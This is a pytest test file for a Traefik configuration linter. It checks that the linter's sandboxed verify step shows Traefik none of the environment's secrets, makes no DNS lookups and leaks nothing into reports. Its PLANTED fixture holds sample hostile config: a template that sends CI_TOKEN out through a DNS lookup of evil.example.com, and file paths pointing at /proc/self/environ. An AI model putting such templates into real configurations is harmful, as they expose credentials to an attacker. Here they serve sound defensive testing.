"""Traefik gets nothing of the environment, and the report says what the system closed to it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.traefik_versions import NEWEST, traefik
from tests.verify.sandboxed import ROUTER, SECRETS, SERVICE, verify
from traefiklint.report import FORMATS
from traefiklint.verify import confine
from traefiklint.verify.binary import ask_version
from traefiklint.verify.guard import Protection
from traefiklint.verify.oracle import Oracle

pytestmark = pytest.mark.traefik


def test_the_version_is_asked_without_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "traefik"
    program.write_text(f"#!/bin/sh\n/usr/bin/env > '{tmp_path}/env'\necho 'Version:      3.7.15'\n")
    program.chmod(0o755)
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    ask_version(str(program))
    seen = {line.partition("=")[0] for line in (tmp_path / "env").read_text().splitlines()}
    assert seen - {"PWD", "OLDPWD", "SHLVL", "_"} == {"PATH", "HOME", "TMPDIR"}


def test_templates_find_three_names_in_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    names = '"DOKPLOY_API_KEY" "CI_TOKEN" "PWD" "USER" "http_proxy"'
    text = f'# {{{{ range list {names} }}}}{{{{ env . }}}}{{{{ end }}}}{{{{ expandenv "$CI_TOKEN" }}}}.\n'
    with Oracle(traefik(NEWEST), rendered=True) as oracle:
        assert oracle.check({"a.yml": text}).rendered == {"a.yml": "# .\n"}
        home = oracle.check({"a.yml": '# {{ env "HOME" }} {{ env "TMPDIR" }}\n'}).rendered["a.yml"]
        assert home == f"# {Path(oracle.directory).parent} {Path(oracle.directory).parent}/work\n"


@pytest.mark.parametrize(
    "action",
    [
        '{{ getHostByName "localhost" }}',
        '{{ "localhost" | getHostByName }}',
        '{{ $a := printf "%s" (getHostByName "localhost") }}{{ $a }}',
        '{{ define "x" }}{{ getHostByName . }}{{ end }}{{ template "x" "localhost" }}',
        '{{- getHostByName "localhost" | trim -}}',
        '{{ if true }}{{ with getHostByName "localhost" }}{{ . }}{{ end }}{{ end }}',
    ],
)
def test_templates_ask_no_name_server(unconfined: None, action: str) -> None:
    router = ROUTER.replace("service: s", "service: gone")
    text = f"http: {{{SERVICE}, middlewares: {{m: {{ipAllowList: {{sourceRange: ['{action}']}}}}}}, {router}}}\n"
    done = verify("a.yml", text)
    said = [finding for finding in done.report.findings if finding.rule == "traefik-cannot-know"]
    assert [text[finding.column - 1 : finding.span.end_column - 1] for finding in said] == ["getHostByName"]
    assert "192.0.2.1" in said[0].message
    assert {finding.rule for finding in done.report.findings} == {"traefik-cannot-know", "traefik-disables"}


def test_a_word_in_a_text_is_not_a_question() -> None:
    text = f'# getHostByName env {{{{ "getHostByName env" }}}}\nhttp: {{{SERVICE}}}\n'
    assert verify("a.yml", text).report.findings == ()


def test_what_a_template_makes_is_not_a_template_again(unconfined: None) -> None:
    text = (
        'http: {middlewares: {m: {addPrefix: {prefix: \'/{{ "{{" }} getHostByName "localhost" }}\'}}}, '
        + f"{ROUTER}, {SERVICE}}}\n"
    )
    done = verify("a.yml", text)
    assert done.verdict.loads
    assert done.report.findings == ()


PLANTED = """
http:
  routers:
    r: {rule: 'Host(`a.example.com`)', service: 'nope{{ env "DOKPLOY_API_KEY" }}', middlewares: [m]}
    # {{ getHostByName (printf "%s.evil.example.com" (env "CI_TOKEN")) }}
  middlewares:
    m: {basicAuth: {usersFile: /proc/self/environ}}
tls:
  certificates:
    - {certFile: /proc/self/environ, keyFile: /proc/self/environ}
"""


def run(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "traefiklint", "--verbose", "verify", "apps", *arguments],
        cwd=folder,
        capture_output=True,
        text=True,
        env={**os.environ, **SECRETS, "NO_COLOR": "1"},
    )


@pytest.fixture
def apps(tmp_path: Path) -> Path:
    (tmp_path / "apps").mkdir()
    (tmp_path / "apps" / "a.yml").write_text(PLANTED)
    return tmp_path


def test_no_format_shows_anything_of_the_environment(apps: Path) -> None:
    formats = [word for name in FORMATS for word in ("--format", name, "--output", f"report.{name}")]
    done = run(apps, *formats, "--bug-report", "bug.md")
    assert done.returncode == 1
    written = [path.read_text() for path in apps.glob("report.*")]
    assert len(written) == len(FORMATS)
    for text in (done.stdout, done.stderr, *written, *(path.read_text() for path in apps.glob("bug.md"))):
        assert not any(secret in text for secret in SECRETS.values())


@pytest.mark.skipif(not shutil.which("strace"), reason="strace shows what a process asks of the system")
def test_the_system_is_asked_for_no_connection_and_no_file(apps: Path) -> None:
    trace = apps / "trace"
    done = subprocess.run(
        [
            "strace",
            "-f",
            "-s",
            "300",
            "-e",
            "trace=connect,sendto,openat,open",
            "-o",
            str(trace),
            sys.executable,
            "-m",
            "traefiklint",
            "verify",
            "apps",
        ],
        cwd=apps,
        capture_output=True,
        text=True,
        env={**os.environ, **SECRETS},
    )
    if "ptrace" in done.stderr.lower():
        pytest.skip("this system does not let strace look")
    lines = trace.read_text(errors="replace").splitlines()
    assert done.returncode == 1, done.stderr
    assert [line for line in lines if "AF_INET" in line and 'inet_addr("127.0.0.1")' not in line] == []
    assert [line for line in lines if "environ" in line or "evil.example" in line] == []


# What the report says


def test_the_report_says_what_was_closed(apps: Path) -> None:
    (apps / "apps" / "a.yml").write_text(f"http: {{{SERVICE}}}\n")
    with Oracle(traefik(NEWEST)) as oracle:
        protection = oracle.protection
    assert f"closed to it: {protection.words}\n" in run(apps).stdout
    told = json.loads(run(apps, "--format", "json").stdout)["verified"]
    assert told == {"traefik": NEWEST, "closed": protection.closed}


def test_where_the_system_closes_nothing_verify_works_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("traefiklint.verify.guard.sys.platform", "elsewhere")
    with Oracle(traefik(NEWEST)) as oracle:
        assert oracle.check({"a.yml": f"http: {{{SERVICE}}}"}).loads
        assert oracle.protection == Protection()
        assert oracle.protection.words == "nothing by the system itself"


def test_a_namespace_that_cannot_be_used_is_not_entered() -> None:
    class Refusing:
        def unshare(self, flags: int) -> int:
            return -1

    assert not confine._can_leave_network(Refusing())  # type: ignore[arg-type]
